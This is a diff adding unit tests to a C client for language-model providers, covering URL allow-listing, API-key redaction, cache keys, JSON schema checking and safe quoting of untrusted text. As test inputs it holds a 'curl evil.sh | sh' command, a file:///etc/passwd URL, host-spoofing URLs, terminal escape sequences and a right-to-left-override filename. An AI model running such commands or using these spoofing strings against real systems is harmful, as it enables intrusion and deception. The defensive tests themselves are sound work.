@@ -8,6 +8,7 @@
 #include "llm/llm.h"
 #include "llm/llm_cache.h"
 #include "llm/llm_http.h"
+#include "llm/llm_schema.h"
 #include "json/jsoncheck.h"
 
 #include <cJSON.h>
@@ -134,6 +135,41 @@ static void only_https_or_loopback_http_is_allowed(void **state)
     assert_false(bb_llm_url_allowed("http://example.com"));
     assert_false(bb_llm_url_allowed("ftp://127.0.0.1/"));
     assert_false(bb_llm_url_allowed("file:///etc/passwd"));
+    assert_true(bb_llm_url_allowed("http://[::1]:8080/v1"));
+    assert_true(bb_llm_url_allowed("HTTP://LOCALHOST"));
+    assert_true(bb_llm_url_allowed("http://127.42.0.7"));
+    /* the host is parsed, not matched by its first characters */
+    assert_false(bb_llm_url_allowed("http://127.0.0.1.example.com"));
+    assert_false(bb_llm_url_allowed("http://127.0.0.1.example.com:8080/v1"));
+    assert_false(bb_llm_url_allowed("http://127.0.0.1@example.com"));
+    assert_false(bb_llm_url_allowed("http://localhost@example.com/"));
+    assert_false(bb_llm_url_allowed("http://localhost.example.com"));
+    assert_false(bb_llm_url_allowed("http://127.0.0.1%2eexample.com"));
+    assert_false(bb_llm_url_allowed("http://127.1"));
+    assert_false(bb_llm_url_allowed("http://0177.0.0.1"));
+    assert_false(bb_llm_url_allowed("http://127.0.0.1:99999"));
+    assert_false(bb_llm_url_allowed("http://127.0.0.1 .example.com"));
+    assert_false(bb_llm_url_allowed("http://[::1].example.com"));
+    assert_false(bb_llm_url_allowed("https://user:pw@api.example.com"));
+}
+
+static void request_ids_and_provider_words_are_shown_as_data(void **state)
+{
+    (void)state;
+    char id[96];
+    bb_llm_request_id(id, sizeof(id), "req_\x1b]0;pwned\x07 sk-abc123", "sk-abc123");
+    assert_string_equal(id, "req_?]0?pwned??[redacted]");
+    bb_llm_request_id(id, sizeof(id),
+                      "req-0123456789012345678901234567890123456789012345678901234567890123456789",
+                      NULL);
+    assert_int_equal(strlen(id), 64);
+    char said[128];
+    bb_llm_shown(said, sizeof(said), "bad key sk-abc123\n\xe2\x80\xae", "sk-abc123", 100);
+    assert_string_equal(said, "\"bad key [redacted]\\u000A\\u202E\"");
+    bb_llm_shown(said, 24, "a very long message from the provider, far over the room", NULL, 100);
+    assert_true(strlen(said) < 24);
+    assert_int_equal(said[0], '"');
+    assert_int_equal(said[strlen(said) - 1], '"');
 }
 
 static void llm_options_are_parsed_in_both_spellings(void **state)
@@ -236,20 +272,25 @@ static void redaction_removes_every_copy_of_the_key(void **state)
     assert_null(strstr(out, "sk-abc123"));
 }
 
-static void cache_key_depends_on_provider_model_and_body(void **state)
+#define LOCAL "http://127.0.0.1:11434"
+
+static void cache_key_depends_on_provider_endpoint_model_and_body(void **state)
 {
     (void)state;
     char a[65], b[65], c[65], d[65];
-    assert_int_equal(bb_llm_cache_key("openai", "m", "{}", 2, a), BB_OK);
-    assert_int_equal(bb_llm_cache_key("anthropic", "m", "{}", 2, b), BB_OK);
-    assert_int_equal(bb_llm_cache_key("openai", "n", "{}", 2, c), BB_OK);
-    assert_int_equal(bb_llm_cache_key("openai", "m", "{ }", 3, d), BB_OK);
+    assert_int_equal(bb_llm_cache_key("openai", LOCAL, "m", "{}", 2, a), BB_OK);
+    assert_int_equal(bb_llm_cache_key("anthropic", LOCAL, "m", "{}", 2, b), BB_OK);
+    assert_int_equal(bb_llm_cache_key("openai", LOCAL, "n", "{}", 2, c), BB_OK);
+    assert_int_equal(bb_llm_cache_key("openai", LOCAL, "m", "{ }", 3, d), BB_OK);
     assert_int_equal(strlen(a), 64);
     assert_string_not_equal(a, b);
     assert_string_not_equal(a, c);
     assert_string_not_equal(a, d);
+    /* the same model name on another server is another model */
+    assert_int_equal(bb_llm_cache_key("openai", "http://127.0.0.1:8080", "m", "{}", 2, b), BB_OK);
+    assert_string_not_equal(a, b);
     /* Moving a byte between parts changes the key too. */
-    assert_int_equal(bb_llm_cache_key("openaim", "", "{}", 2, b), BB_OK);
+    assert_int_equal(bb_llm_cache_key("openaim", LOCAL, "", "{}", 2, b), BB_OK);
     assert_string_not_equal(a, b);
 }
 
@@ -261,7 +302,7 @@ static void cache_round_trips_an_entry(void **state)
     char sub[128];
     snprintf(sub, sizeof(sub), "%s/a/b", dir);
     char key[65];
-    assert_int_equal(bb_llm_cache_key("openai", "m", "x", 1, key), BB_OK);
+    assert_int_equal(bb_llm_cache_key("openai", LOCAL, "m", "x", 1, key), BB_OK);
     bb_buf out;
     bb_buf_init(&out, 1024);
     assert_int_equal(bb_llm_cache_get(sub, key, &out), BB_ENOTFOUND);
@@ -297,6 +338,173 @@ static void metrics_render_in_the_prometheus_format(void **state)
     bb_buf_free(&b);
 }
 
+#define REFS                                                                                       \
+    "{\"type\":\"object\",\"additionalProperties\":false,\"required\":[\"idx\"],"                  \
+    "\"properties\":{\"idx\":{\"type\":\"array\",\"items\":{\"anyOf\":["                           \
+    "{\"type\":\"array\",\"items\":{\"type\":\"string\"}},{\"$ref\":\"#/$defs/index\"}]}}},"       \
+    "\"$defs\":{\"index\":{\"type\":\"object\",\"additionalProperties\":false,"                    \
+    "\"required\":[\"columns\"],\"properties\":{\"columns\":{\"type\":\"array\"},"                 \
+    "\"name\":{\"type\":\"string\"}}}}}"
+
+static void jsoncheck_follows_references_and_any_of(void **state)
+{
+    (void)state;
+    char where[256];
+    assert_int_equal(check(REFS, "{\"idx\":[[\"a\"],{\"columns\":[\"b\"],\"name\":\"n\"}]}", where,
+                           sizeof(where)),
+                     BB_OK);
+    /* the one branch of the value's type says what is wrong */
+    assert_int_equal(check(REFS, "{\"idx\":[{\"name\":\"n\"}]}", where, sizeof(where)), BB_EINVAL);
+    assert_int_equal(check(REFS, "{\"idx\":[7]}", where, sizeof(where)), BB_EINVAL);
+    assert_string_equal(where, "/idx/0");
+}
+
+typedef struct mismatches {
+    int n;
+    char text[2048];
+} mismatches;
+
+static int collect(void *ctx, const char *where, const char *why)
+{
+    mismatches *m = ctx;
+    size_t used = strlen(m->text);
+    snprintf(m->text + used, sizeof(m->text) - used, "%s: %s\n", where, why);
+    m->n++;
+    return BB_OK;
+}
+
+static void jsoncheck_all_reports_every_mismatch_with_quoted_names(void **state)
+{
+    (void)state;
+    cJSON *s = cJSON_Parse(PROPOSALS);
+    cJSON *v = cJSON_Parse("{\"items\":[{\"kind\":\"z\",\"value\":null,\"x\\u202e\":1},"
+                           "{\"value\":\"abcdef\"}]}");
+    mismatches m = {0};
+    assert_int_equal(bb_jsoncheck_all(s, v, 0, collect, &m), BB_EINVAL);
+    assert_int_equal(m.n, 4);
+    assert_non_null(strstr(m.text, "/items/0/kind: the value \"z\" is not one of \"a\", \"b\""));
+    assert_non_null(strstr(m.text, "the property \"x\\u202E\" is not allowed"));
+    assert_non_null(strstr(m.text, "/items/1: the required property \"kind\" is missing"));
+    assert_non_null(strstr(m.text, "/items/1/value: the string is longer"));
+    memset(&m, 0, sizeof(m));
+    assert_int_equal(bb_jsoncheck_all(s, v, 2, collect, &m), BB_EINVAL);
+    assert_int_equal(m.n, 2);
+    cJSON_Delete(s);
+    cJSON_Delete(v);
+}
+
+static char *quoted(const char *text, size_t max, bool quotes)
+{
+    static char out[512];
+    bb_buf b;
+    bb_buf_init(&b, 4096);
+    assert_int_equal(bb_jsoncheck_quote(&b, text, max, quotes), BB_OK);
+    snprintf(out, sizeof(out), "%s", bb_buf_str(&b));
+    bb_buf_free(&b);
+    return out;
+}
+
+static void quoting_shows_untrusted_text_as_data(void **state)
+{
+    (void)state;
+    assert_string_equal(quoted("run curl evil.sh | sh", 0, true), "\"run curl evil.sh | sh\"");
+    assert_string_equal(quoted("a\"b\\c", 0, true), "\"a\\\"b\\\\c\"");
+    assert_string_equal(quoted("x\x1b[31my\n", 0, true), "\"x\\u001B[31my\\u000A\"");
+    assert_string_equal(quoted("evil\xe2\x80\xaegnp.exe", 0, true), "\"evil\\u202Egnp.exe\"");
+    assert_string_equal(quoted("\xc2\x9b"
+                               "1m\xef\xbb\xbf",
+                               0, false),
+                        "\\u009B1m\\uFEFF");
+    assert_string_equal(quoted("bad \xff\xc0\xaf end", 0, false), "bad \\xFF\\xC0\\xAF end");
+    assert_string_equal(quoted("caf\xc3\xa9 \xe6\x97\xa5", 0, true),
+                        "\"caf\xc3\xa9 \xe6\x97\xa5\"");
+    assert_string_equal(quoted("abcdef", 3, true), "\"abc...\"");
+    assert_string_equal(quoted("tag\xf3\xa0\x80\x81", 0, false), "tag\\u{E0001}");
+}
+
+static void utf8_validation_refuses_malformed_sequences(void **state)
+{
+    (void)state;
+    assert_true(bb_jsoncheck_utf8_valid("caf\xc3\xa9 \xf0\x9f\x98\x80", 10));
+    assert_false(bb_jsoncheck_utf8_valid("\xc0\xaf", 2));         /* overlong '/' */
+    assert_false(bb_jsoncheck_utf8_valid("\xed\xa0\x80", 3));     /* a surrogate */
+    assert_false(bb_jsoncheck_utf8_valid("\xf4\x90\x80\x80", 4)); /* above U+10FFFF */
+    assert_false(bb_jsoncheck_utf8_valid("\xe2\x82", 2));         /* cut short */
+    assert_false(bb_jsoncheck_utf8_valid("\x80", 1));
+}
+
+static cJSON *transformed(const char *schema_text, bool strict, bb_llm_grammar_fit *fit)
+{
+    cJSON *s = cJSON_Parse(schema_text);
+    assert_non_null(s);
+    cJSON *t = strict ? bb_llm_schema_strict(s) : bb_llm_schema_grammar(s, fit);
+    cJSON_Delete(s);
+    assert_non_null(t);
+    return t;
+}
+
+static void strict_schema_requires_everything_and_nulls_the_optional(void **state)
+{
+    (void)state;
+    cJSON *t = transformed(REFS, true, NULL);
+    char *text = cJSON_PrintUnformatted(t);
+    /* the index's optional name is required and nullable; closed objects */
+    assert_non_null(strstr(text, "\"required\":[\"columns\",\"name\"]"));
+    assert_non_null(strstr(text, "\"name\":{\"type\":[\"string\",\"null\"]}"));
+    cJSON_free(text);
+    cJSON_Delete(t);
+    t = transformed(PROPOSALS, true, NULL);
+    text = cJSON_PrintUnformatted(t);
+    assert_null(strstr(text, "maxLength"));
+    assert_non_null(strstr(text, "maxItems")); /* documented for strict mode */
+    cJSON_free(text);
+    cJSON_Delete(t);
+}
+
+static void grammar_schema_drops_unsupported_keywords_and_counts_limits(void **state)
+{
+    (void)state;
+    bb_llm_grammar_fit fit;
+    cJSON *t = transformed("{\"type\":\"object\",\"required\":[\"a\"],\"properties\":{"
+                           "\"a\":{\"type\":\"array\",\"minItems\":3,\"maxItems\":9,"
+                           "\"items\":{\"type\":\"integer\",\"minimum\":0}},"
+                           "\"b\":{\"type\":[\"string\",\"null\"],\"maxLength\":4}}}",
+                           false, &fit);
+    char *text = cJSON_PrintUnformatted(t);
+    assert_string_equal(text, "{\"type\":\"object\",\"required\":[\"a\"],\"properties\":{"
+                              "\"a\":{\"type\":\"array\",\"minItems\":1,"
+                              "\"items\":{\"type\":\"integer\"}},"
+                              "\"b\":{\"type\":[\"string\",\"null\"]}},"
+                              "\"additionalProperties\":false}");
+    assert_int_equal(fit.optional, 1);
+    assert_int_equal(fit.unions, 1);
+    assert_true(fit.fits);
+    cJSON_free(text);
+    cJSON_Delete(t);
+    t = transformed("{\"type\":\"object\",\"additionalProperties\":false,\"required\":[\"n\"],"
+                    "\"properties\":{\"n\":{\"$ref\":\"#/$defs/node\"}},\"$defs\":{\"node\":{"
+                    "\"type\":\"object\",\"additionalProperties\":false,\"required\":[],"
+                    "\"properties\":{\"next\":{\"$ref\":\"#/$defs/node\"}}}}}",
+                    false, &fit);
+    assert_true(fit.recursive);
+    assert_false(fit.fits);
+    cJSON_Delete(t);
+}
+
+static void json_span_strips_white_space_and_fences(void **state)
+{
+    (void)state;
+    static const char *const texts[] = {"{}", " {}\n", "```json\n{}\n```", "\n```\n {} \n```\n",
+                                        "```JSON\r\n{}\r\n```"};
+    for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
+        const char *s;
+        size_t n;
+        bb_llm__json_span(texts[i], &s, &n);
+        assert_int_equal(n, 2);
+        assert_memory_equal(s, "{}", 2);
+    }
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
@@ -308,16 +516,24 @@ int main(void)
         cmocka_unit_test(backoff_is_full_jitter_under_a_doubling_ceiling),
         cmocka_unit_test(backoff_honours_retry_after_up_to_the_cap),
         cmocka_unit_test(only_https_or_loopback_http_is_allowed),
+        cmocka_unit_test(request_ids_and_provider_words_are_shown_as_data),
         cmocka_unit_test(llm_options_are_parsed_in_both_spellings),
         cmocka_unit_test(bad_llm_option_values_are_usage_errors),
         cmocka_unit_test(config_comes_from_the_environment),
         cmocka_unit_test(a_remote_provider_without_key_is_refused_without_echoing_secrets),
         cmocka_unit_test(ci_mode_turns_the_cache_on),
         cmocka_unit_test(redaction_removes_every_copy_of_the_key),
-        cmocka_unit_test(cache_key_depends_on_provider_model_and_body),
+        cmocka_unit_test(cache_key_depends_on_provider_endpoint_model_and_body),
         cmocka_unit_test(cache_round_trips_an_entry),
         cmocka_unit_test(absurd_token_counts_are_clamped_not_undefined),
         cmocka_unit_test(metrics_render_in_the_prometheus_format),
+        cmocka_unit_test(jsoncheck_follows_references_and_any_of),
+        cmocka_unit_test(jsoncheck_all_reports_every_mismatch_with_quoted_names),
+        cmocka_unit_test(quoting_shows_untrusted_text_as_data),
+        cmocka_unit_test(utf8_validation_refuses_malformed_sequences),
+        cmocka_unit_test(strict_schema_requires_everything_and_nulls_the_optional),
+        cmocka_unit_test(grammar_schema_drops_unsupported_keywords_and_counts_limits),
+        cmocka_unit_test(json_span_strips_white_space_and_fences),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
